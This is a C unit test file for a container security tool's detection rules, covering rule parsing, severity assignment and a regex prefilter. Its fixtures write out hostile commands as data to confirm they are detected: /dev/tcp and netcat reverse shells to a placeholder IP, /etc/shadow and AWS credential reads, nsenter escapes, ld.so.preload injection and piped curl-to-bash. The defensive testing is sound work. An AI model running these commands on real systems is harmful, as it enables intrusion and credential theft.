/* test_enrich_rules.c - the rules-file format and the built-in rules on
 * hand-built facts: parse errors name what is wrong, conditions combine as
 * AND, user rules run first and "final" stops evaluation, exec probes and
 * container starts stay quiet while attacks get their severity; the
 * regex prefilter finds the literals a regex needs and never rejects a
 * string the regex matches.
 *
 * The enrich modules are not in libtetra.a; this test links libenrich.a,
 * which the Makefile gives every test_enrich_*.c. */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "check_main.h"
#include "../../enrich/facts.h"
#include "../../enrich/prefilter.h"
#include "../../enrich/rules.h"
#include "../../enrich/rules_builtin.h"

static facts container_exec(const char *binary, const char *args)
{
    facts fx;
    facts_clear(&fx);
    fx.f[F_KIND] = "process_exec";
    fx.f[F_BINARY] = binary;
    fx.f[F_ARGS] = args;
    fx.f[F_PARENT] = "/usr/bin/runc";
    fx.f[F_NAMESPACE] = "shop";
    fx.f[F_WORKLOAD] = "web";
    fx.f[F_CONTAINER] = "web";
    fx.f[F_IN_CONTAINER] = "yes";
    fx.f[F_EXEC_PROBE] = "no";
    fx.f[F_CONTAINER_INIT] = "no";
    fx.f[F_PRIVILEGED] = "no";
    fx.f[F_FLAGS] = "execve clone";
    return fx;
}

static int matched(const verdict *v, const char *name)
{
    for (size_t i = 0; i < v->nmatched; i++)
        if (strcmp(v->matched[i]->name, name) == 0)
            return 1;
    return 0;
}

static void eval_builtin(const facts *fx, verdict *v, ruleset *rs)
{
    char err[256];
    ck_assert_msg(rules_load_builtin(rs, err, sizeof err) == 0, "%s", err);
    rules_eval(rs, fx, v);
}

START_TEST(parse_errors_say_what)
{
    ruleset rs = RULESET_INIT;
    char err[256];
    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=high", "t", err, sizeof err), -1);
    ck_assert_ptr_nonnull(strstr(err, "no condition"));
    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=urgent binary=/a", "t", err, sizeof err),
                     -1);
    ck_assert_ptr_nonnull(strstr(err, "urgent"));
    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=low color=red", "t", err, sizeof err),
                     -1);
    ck_assert_ptr_nonnull(strstr(err, "color"));
    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=low binary~=(a", "t", err, sizeof err),
                     -1);
    ck_assert_ptr_nonnull(strstr(err, "regex"));
    ck_assert_int_eq(
        rules_add_line(&rs, "name=x severity=low technique=X1 binary=/a", "t", err, sizeof err),
        -1);
    ck_assert_int_eq(rules_add_line(&rs, "name=\"x severity=low", "t", err, sizeof err), -1);
    ck_assert_ptr_nonnull(strstr(err, "quote"));
    /* found by fuzzing: a refused line took its disable= with it only
     * after the fix, and stacked repetitions made regcomp take gigabytes */
    ck_assert_int_eq(rules_add_line(&rs, "disable=shell-in-container oops", "t", err, sizeof err),
                     -1);
    ck_assert_uint_eq(rs.ndisabled, 0);
    ck_assert_int_eq(rules_add_line(&rs,
                                    "name=x severity=low binary~=d++++++++++++++++++++"
                                    "++++++++++++++++++++++++++++++++++++++++",
                                    "t", err, sizeof err),
                     -1);
    ck_assert_ptr_nonnull(strstr(err, "repeats too much"));
    ck_assert_int_eq(rules_add_line(&rs, "name=x severity=low binary~=((a{100}){100}){100}", "t",
                                    err, sizeof err),
                     -1);
    ck_assert_int_eq(rules_add_line(&rs, "  # a comment", "t", err, sizeof err), 0);
    ck_assert_int_eq(rules_add_line(&rs, "", "t", err, sizeof err), 0);
    ck_assert_uint_eq(rs.n, 0);
    rules_free(&rs);
}
END_TEST

START_TEST(conditions_and_quotes)
{
    ruleset rs = RULESET_INIT;
    char err[256];
    const char *line =
        "name=r1 kind=process_exec binary~=/curl$ args!~\"--version\" severity=high"
        " technique=T1105 technique_name=\"Ingress Tool Transfer\" tactic=command-and-control"
        " summary=\"${binary} in ${namespace}/${workload}\" next=\"a step\"";
    ck_assert_msg(rules_add_line(&rs, line, "t:1", err, sizeof err) == 0, "%s", err);
    facts fx = container_exec("/usr/bin/curl", "http://x");
    verdict v;
    rules_eval(&rs, &fx, &v);
    ck_assert_int_eq(v.severity, SEV_HIGH);
    ck_assert_str_eq(v.top->tech.name, "Ingress Tool Transfer");
    buf b = BUF_INIT;
    ck_assert_int_eq(rules_summary(&v, &fx, &b), 0);
    ck_assert_str_eq(b.p, "/usr/bin/curl in shop/web");
    fx.f[F_ARGS] = "--version";
    rules_eval(&rs, &fx, &v);
    ck_assert_int_eq(v.severity, SEV_INFO);
    ck_assert_ptr_null(v.top);
    buf_reset(&b);
    ck_assert_int_eq(rules_summary(&v, &fx, &b), 0);
    ck_assert_ptr_nonnull(strstr(b.p, "Process /usr/bin/curl started"));
    buf_free(&b);
    rules_free(&rs);
}
END_TEST

START_TEST(user_final_rule_silences_builtin)
{
    ruleset rs = RULESET_INIT;
    char err[256];
    ck_assert_int_eq(
        rules_add_line(&rs, "name=allow-ops workload=web binary=/bin/bash severity=info final",
                       "user:1", err, sizeof err),
        0);
    facts fx = container_exec("/bin/bash", "");
    verdict v;
    eval_builtin(&fx, &v, &rs);
    ck_assert_int_eq(v.severity, SEV_INFO);
    ck_assert_uint_eq(v.nmatched, 1);
    fx.f[F_WORKLOAD] = "other";
    rules_eval(&rs, &fx, &v);
    ck_assert_int_eq(v.severity, SEV_MEDIUM);
    ck_assert(matched(&v, "shell-in-container"));
    ck_assert_int_eq(rules_add_line(&rs, "disable=shell-in-container", "user:2", err, sizeof err),
                     0);
    rules_eval(&rs, &fx, &v);
    ck_assert_int_eq(v.severity, SEV_INFO);
    rules_free(&rs);
}
END_TEST

START_TEST(exec_probe_and_container_start_quiet)
{
    ruleset rs = RULESET_INIT;
    verdict v;
    facts fx = container_exec("/bin/sh", "-c \"pg_isready\"");
    fx.f[F_EXEC_PROBE] = "yes";
    eval_builtin(&fx, &v, &rs);
    ck_assert_int_eq(v.severity, SEV_INFO);
    ck_assert(matched(&v, "exec-probe"));
    fx = container_exec("/usr/local/bin/server", "--port 8080");
    fx.f[F_CONTAINER_INIT] = "yes";
    rules_eval(&rs, &fx, &v);
    ck_assert_int_le(v.severity, SEV_LOW);
    fx = container_exec("/bin/bash", "");
    fx.f[F_FLAGS] = "procFS";
    rules_eval(&rs, &fx, &v);
    ck_assert_int_le(v.severity, SEV_LOW);
    rules_free(&rs);
}
END_TEST

START_TEST(attacks_get_their_severity)
{
    static const struct {
        const char *binary, *args, *rule;
        int sev;
        const char *tech;
    } cases[] = {
        {"/bin/bash", "-c \"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\"", "reverse-shell-dev-tcp",
         SEV_CRITICAL, "T1059.004"},
        {"/usr/bin/nc", "-e /bin/sh 1.2.3.4 4444", "reverse-shell-netcat-exec", SEV_CRITICAL,
         "T1059.004"},
        {"/usr/bin/masscan", "-p1-65535 10.0.0.0/8", "network-scanner", SEV_HIGH, "T1046"},
        {"/bin/cat", "/etc/shadow", "shadow-read", SEV_HIGH, "T1003.008"},
        {"/usr/bin/xmrig", "--donate-level 1", "crypto-miner-binary", SEV_CRITICAL, "T1496"},
        {"/usr/bin/nsenter", "-t 1 -m -u -n -i -p sh", "nsenter-host", SEV_CRITICAL, "T1611"},
        {"/bin/sh", "-c \"echo x >> /etc/ld.so.preload\"", "ld-preload", SEV_CRITICAL, "T1574.006"},
        {"/usr/bin/apk", "add gcc", "package-manager", SEV_MEDIUM, "T1105"},
    };
    ruleset rs = RULESET_INIT;
    verdict v;
    facts fx = container_exec("/x", "");
    eval_builtin(&fx, &v, &rs);
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        fx = container_exec(cases[i].binary, cases[i].args);
        char any[512];
        snprintf(any, sizeof any, "%s %s | ", cases[i].binary, cases[i].args);
        fx.f[F_ANY] = any;
        rules_eval(&rs, &fx, &v);
        ck_assert_msg(matched(&v, cases[i].rule), "%s: %s did not match", cases[i].binary,
                      cases[i].rule);
        ck_assert_int_eq(v.severity, cases[i].sev);
        int found = 0;
        for (size_t j = 0; j < v.nmatched; j++)
            found |= strcmp(v.matched[j]->tech.id, cases[i].tech) == 0;
        ck_assert_msg(found, "%s: technique %s missing", cases[i].binary, cases[i].tech);
    }
    rules_free(&rs);
}
END_TEST

/* "nc -e /bin/sh" and "socat ... exec:sh" start the shell themselves: the
 * shell's own arguments are empty, only its parent gives it away. */
START_TEST(shell_under_network_tool_is_reverse_shell)
{
    static const char *const parents[] = {"/usr/bin/nc", "/usr/bin/ncat", "/bin/netcat",
                                          "/usr/bin/nc.openbsd", "/usr/bin/socat"};
    ruleset rs = RULESET_INIT;
    verdict v;
    facts fx = container_exec("/x", "");
    eval_builtin(&fx, &v, &rs);
    for (size_t i = 0; i < sizeof parents / sizeof parents[0]; i++) {
        fx = container_exec("/bin/bash", "-i");
        fx.f[F_PARENT] = parents[i];
        rules_eval(&rs, &fx, &v);
        ck_assert_msg(matched(&v, "reverse-shell-network-parent"), "parent %s", parents[i]);
        ck_assert_int_eq(v.severity, SEV_CRITICAL);
        int t1059 = 0, t1095 = 0;
        for (size_t j = 0; j < v.nmatched; j++) {
            t1059 |= strncmp(v.matched[j]->tech.id, "T1059", 5) == 0;
            t1095 |= strcmp(v.matched[j]->tech.id, "T1095") == 0;
        }
        ck_assert_msg(t1059 && t1095, "parent %s: T1059 %d T1095 %d", parents[i], t1059, t1095);
    }
    /* The same shell under an ordinary parent is not one; nor is a
     * non-shell child of netcat. */
    fx = container_exec("/bin/bash", "-i");
    fx.f[F_PARENT] = "/usr/bin/sshd";
    rules_eval(&rs, &fx, &v);
    ck_assert(!matched(&v, "reverse-shell-network-parent"));
    fx = container_exec("/bin/cat", "");
    fx.f[F_PARENT] = "/usr/bin/nc";
    rules_eval(&rs, &fx, &v);
    ck_assert(!matched(&v, "reverse-shell-network-parent"));
    fx = container_exec("/bin/bash", "");
    fx.f[F_PARENT] = "/usr/bin/fnc";
    rules_eval(&rs, &fx, &v);
    ck_assert(!matched(&v, "reverse-shell-network-parent"));
    rules_free(&rs);
}
END_TEST

START_TEST(builtin_rules_all_complete)
{
    ruleset rs = RULESET_INIT;
    char err[256];
    ck_assert_msg(rules_load_builtin(&rs, err, sizeof err) == 0, "%s", err);
    ck_assert_uint_ge(rs.n, 50);
    for (size_t i = 0; i < rs.n; i++) {
        const rule *r = &rs.v[i];
        ck_assert_msg(r->summary != NULL, "%s has no summary", r->name);
        if (r->severity >= SEV_LOW)
            ck_assert_msg(r->tech.id[0] && r->tech.name[0] && r->tech.tactic[0],
                          "%s lacks technique id, name or tactic", r->name);
    }
    rules_free(&rs);
}
END_TEST

static void lits_are(const char *re, const char *want)
{
    prefilter pf;
    char got[512] = "";
    ck_assert_int_eq(prefilter_compile(re, &pf), 0);
    for (size_t i = 0; i < pf.n; i++) {
        strncat(got, i ? "," : "", sizeof got - strlen(got) - 1);
        strncat(got, pf.lit[i], sizeof got - strlen(got) - 1);
    }
    ck_assert_msg(strcmp(got, want) == 0, "%s: got [%s], want [%s]", re, got, want);
    prefilter_free(&pf);
}

START_TEST(prefilter_literals)
{
    lits_are("/etc/cron|/var/spool/cron|(^|/)crontab( |$)", "/etc/cron,/var/spool/cron,crontab");
    lits_are("/(nc|ncat|nc[.]openbsd)$", "nc,ncat,nc.openbsd");
    lits_are("/(ba|da|z)?sh$", "sh"); /* optional group offers nothing */
    lits_are("169[.]254[.]169[.]254", "169.254.169.254");
    lits_are("base64 +-d", "base64 "); /* x+ needs one x */
    lits_are("abc?d", "ab");           /* c? is optional */
    lits_are("ab{0,2}cd", "cd");
    lits_are("a\\.b", "a.b");
    lits_are("(^| )-[a-z]*[ce]( |$)", "-");
    lits_are("x|[0-9]+", ""); /* a branch without literal: none */
    lits_are("(a|)b", "b");
    lits_are("\\<word", "word"); /* GNU anchor, not a literal */
    lits_are("[]x]yz|[^y]q", "yz,q");
}
END_TEST

static int exact(const char *re)
{
    prefilter pf;
    ck_assert_int_eq(prefilter_compile(re, &pf), 0);
    int e = pf.exact;
    prefilter_free(&pf);
    return e;
}

/* Only a plain alternation of whole words skips regexec. */
START_TEST(prefilter_exact)
{
    ck_assert(exact("connect"));
    ck_assert(exact("commit_creds|cap_capable|security_capset"));
    ck_assert(exact("CAP_SYS_ADMIN"));
    ck_assert(!exact("a.b"));
    ck_assert(!exact("/nsenter$"));
    ck_assert(!exact("a|")); /* an empty branch matches everything */
    ck_assert(!exact("|a"));
    ck_assert(!exact("(a|b)"));
    ck_assert(!exact("a\\|b"));
    ck_assert(!exact("abcdefghijklmnopqrstuvwxyz0123456789")); /* cut to 31: not whole */
    ck_assert(!exact(""));
}
END_TEST

/* Soundness: for every built-in regex and many strings, a string the
 * regex matches always passes the prefilter. */
START_TEST(prefilter_never_hides_a_match)
{
    ruleset rs = RULESET_INIT;
    char err[256];
    ck_assert_int_eq(rules_load_builtin(&rs, err, sizeof err), 0);
    static const char *const texts[] = {
        "/bin/bash",
        "/usr/bin/nc -e /bin/sh 1.2.3.4 4444",
        "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
        "/usr/bin/python3 -c import socket",
        "cat /etc/shadow",
        "/etc/cron.d/x",
        "crontab -l",
        "sock tcp 10.0.0.1:4000 -> 1.2.3.4:4444",
        "/usr/sbin/insmod x.ko",
        "nsenter -t 1 -m sh",
        "curl http://169.254.169.254/latest",
        "chmod u+s /tmp/x",
        "chmod 4755 /tmp/x",
        "tar czf /tmp/a.tgz /etc",
        "xmrig --donate-level 1",
        "rm -f /root/.bash_history",
        "echo x | base64 -d | sh",
        "curl -s http://x | sudo bash",
        "cap CAP_SYS_ADMIN",
        "/run/containerd/containerd.sock",
        "cat ~/.aws/credentials",
        "id_rsa .ssh/id_rsa",
        "",
        "a",
        "/",
        "-",
        "plain text with nothing",
        "ssh user@host:/x",
        "socat exec:/bin/sh",
    };
    for (size_t i = 0; i < rs.n; i++)
        for (int c = 0; c < rs.v[i].ncond; c++) {
            const rule_cond *rc = &rs.v[i].cond[c];
            if (rc->op != COND_RE && rc->op != COND_NRE)
                continue;
            for (size_t t = 0; t < sizeof texts / sizeof texts[0]; t++) {
                int m = regexec(&rc->re, texts[t], 0, NULL, 0) == 0;
                if (m)
                    ck_assert_msg(prefilter_may_match(&rc->pf, texts[t]), "%s hides %s", rc->value,
                                  texts[t]);
                if (rc->pf.exact) /* then the literals decide alone */
                    ck_assert_msg(prefilter_may_match(&rc->pf, texts[t]) == m, "%s exact on %s",
                                  rc->value, texts[t]);
            }
        }
    rules_free(&rs);
}
END_TEST

/* The one-pass literal search (rules_prepare) decides exactly as one
 * strstr per literal does: the same rules match on every text, put in
 * every field at once and in each field alone. */
START_TEST(prepared_scan_agrees_with_strstr)
{
    ruleset rs = RULESET_INIT;
    char err[256];
    ck_assert_int_eq(rules_load_builtin(&rs, err, sizeof err), 0);
    ck_assert_ptr_nonnull(rs.scan);
    static const char *const texts[] = {
        "/usr/bin/nc -e /bin/sh 1.2.3.4 4444",
        "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
        "/bin/sh",
        "cat /etc/shadow",
        "/etc/cron.d/x",
        "sock tcp 10.0.0.1:4000 -> 1.2.3.4:4444",
        "nsenter -t 1 -m sh",
        "curl http://169.254.169.254/latest",
        "chmod u+s /tmp/x",
        "echo x | base64 -d | sh",
        "yes",
        "",
        "cap CAP_SYS_ADMIN",
        "/run/containerd/containerd.sock",
        "/usr/sbin/insmod x.ko",
        "process_exec",
    };
    for (size_t t = 0; t < sizeof texts / sizeof texts[0]; t++)
        for (int field = -1; field < F_NFIELDS; field++) {
            facts fx = container_exec("/bin/true", "");
            for (int f = 0; f < F_NFIELDS; f++)
                if (field < 0 || f == field)
                    fx.f[f] = texts[t];
            verdict a, b;
            rules_eval(&rs, &fx, &a);
            rules_scan *keep = rs.scan;
            rs.scan = NULL;
            rules_eval(&rs, &fx, &b);
            rs.scan = keep;
            ck_assert_uint_eq(a.nmatched, b.nmatched);
            for (size_t i = 0; i < a.nmatched; i++)
                ck_assert_msg(a.matched[i] == b.matched[i], "[%s] in field %d: %s vs %s", texts[t],
                              field, a.matched[i]->name, b.matched[i]->name);
        }
    rules_free(&rs);
}
END_TEST

START_TEST(rules_file_reports_line)
{
    char path[] = "/tmp/test_enrich_rules_XXXXXX";
    int fd = mkstemp(path);
    ck_assert_int_ge(fd, 0);
    FILE *f = fdopen(fd, "w");
    fputs("# comment\nname=a binary=/x severity=low\nname=b binary=/y severity=loud\n", f);
    fclose(f);
    ruleset rs = RULESET_INIT;
    char err[512];
    ck_assert_int_eq(rules_load_file(&rs, path, err, sizeof err), -1);
    ck_assert_ptr_nonnull(strstr(err, ":3: "));
    rules_free(&rs);
    unlink(path);
}
END_TEST

static void add_tests(TCase *tc)
{
    tcase_add_test(tc, parse_errors_say_what);
    tcase_add_test(tc, conditions_and_quotes);
    tcase_add_test(tc, user_final_rule_silences_builtin);
    tcase_add_test(tc, exec_probe_and_container_start_quiet);
    tcase_add_test(tc, attacks_get_their_severity);
    tcase_add_test(tc, shell_under_network_tool_is_reverse_shell);
    tcase_add_test(tc, builtin_rules_all_complete);
    tcase_add_test(tc, rules_file_reports_line);
    tcase_add_test(tc, prefilter_literals);
    tcase_add_test(tc, prefilter_exact);
    tcase_add_test(tc, prefilter_never_hides_a_match);
    tcase_add_test(tc, prepared_scan_agrees_with_strstr);
}

int main(void)
{
    return check_main("enrich_rules", add_tests);
}
